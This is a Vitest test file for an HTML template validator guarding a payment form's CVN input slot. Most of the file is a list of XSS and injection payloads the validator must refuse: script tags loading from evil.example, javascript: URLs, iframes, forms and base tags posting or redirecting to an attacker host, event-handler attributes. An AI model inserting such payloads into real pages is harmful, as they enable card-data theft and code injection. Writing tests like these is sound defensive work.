import { describe, expect, it } from 'vitest';
import { checkHtml } from './html';

const FILES = new Set(['form.html', 'img/logo.png', 'img/card.svg', 'fonts/a.woff2']);
const SLOT = '<cs-cvn></cs-cvn>';
const problems = (html: string) => checkHtml(html, FILES);
const reasons = (html: string) => problems(html).map((p) => p.reason);

describe('form templates', () => {
  it('accepts structure, text, images of the form, placeholders and a label for the input', () => {
    const html = `<!doctype html><html lang="en"><head><title>x</title></head><body>
      <section class="card" aria-label="Pay"><h2>{{brand}} •••• {{last4}}</h2>
      <img src="img/logo.png" alt="Shop"><img src="./img/card.svg" alt="">
      <p>{{ amount }} {{currency}}</p><label for="cvn">{{label}}</label>${SLOT}<small>{{help_text}}</small></section>`;
    expect(problems(html)).toEqual([]);
  });

  it.each([
    ['<script>alert(1)</script>', 'script'],
    ['<script src="https://evil.example/x.js"></script>', 'script'],
    ['<noscript><img src="https://evil.example/x"></noscript>', 'noscript'],
    ['<template><script>alert(1)</script></template>', 'template'],
    ['<svg><script>alert(1)</script></svg>', 'svg'],
    ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'math'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 'iframe'],
    ['<object data="x.swf"></object>', 'object'],
    ['<embed src="x.swf">', 'embed'],
    ['<form action="https://evil.example"><button>Go</button></form>', 'form'],
    ['<base href="https://evil.example/">', 'base'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'meta'],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'link'],
    ['<link rel="prefetch" href="https://evil.example/">', 'link'],
    ['<a href="javascript:alert(1)">x</a>', '<a>'],
    ['<a href="https://evil.example">x</a>', '<a>'],
    ['<style>body{background:url(https://evil.example)}</style>', 'style'],
    ['<input name="cvn2">', 'input'],
    ['<video src="x.mp4"></video>', 'video'],
    ['<audio src="https://evil.example/a.mp3"></audio>', 'audio'],
    ['<portal src="https://evil.example"></portal>', 'portal'],
  ])('refuses %s', (markup, what) => {
    const found = reasons(`<p>${SLOT}</p>${markup}`);
    expect(found.length).toBeGreaterThan(0);
    expect(found[0]).toContain(what);
  });

  it.each([
    ['<div onclick="alert(1)">', 'event handler attribute onclick'],
    ['<img src="img/logo.png" onerror="alert(1)">', 'event handler attribute onerror'],
    ['<body onload="alert(1)">', 'event handler attribute onload'],
    ['<div style="background:url(https://evil.example)">', 'style attributes are not allowed'],
    ['<img src="https://evil.example/x.png">', 'not an image of this form'],
    ['<img src="//evil.example/x.png">', 'not an image of this form'],
    ['<img src="javascript:alert(1)">', 'not an image of this form'],
    ['<img src="data:image/png;base64,AAAA">', 'not an image of this form'],
    ['<img src="../img/logo.png">', 'not an image of this form'],
    ['<img src="fonts/a.woff2">', 'not an image of this form'],
    ['<img srcset="https://evil.example/x.png 2x" src="img/logo.png">', 'attribute srcset'],
    ['<div formaction="https://evil.example">', 'attribute formaction'],
    ['<div id="cvn">', "the frame's own"],
    ['<label for="other">', 'for="cvn"'],
    ['<p>{{cvn}}</p>', 'unknown placeholder {{cvn}}'],
    ['<p title="{{secret}}">', 'unknown placeholder {{secret}}'],
  ])('refuses %s', (markup, why) => {
    expect(reasons(`${markup}${SLOT}`).join('\n')).toContain(why);
  });

  it('needs exactly one empty <cs-cvn>', () => {
    expect(reasons('<p>no slot</p>')).toEqual(['exactly one <cs-cvn></cs-cvn> is needed, found 0']);
    expect(reasons(SLOT + SLOT)).toEqual(['exactly one <cs-cvn></cs-cvn> is needed, found 2']);
    expect(reasons('<cs-cvn><b>x</b></cs-cvn>')).toEqual([
      '<cs-cvn> must be empty: the gateway puts the CVN input there',
    ]);
  });

  it('lists every problem with its line', () => {
    const found = problems(
      `<p>\n<script>1</script>\n<div onclick="x"></div>\n${SLOT}<img\n src="https://e.example/a.png">`,
    );
    expect(found.map((p) => [p.file, p.line])).toEqual([
      ['form.html', 2],
      ['form.html', 3],
      ['form.html', 5],
    ]);
  });

  it('refuses syntax a browser might repair differently', () => {
    expect(reasons(`<p ${SLOT}`).join()).toContain('HTML syntax error');
  });
});
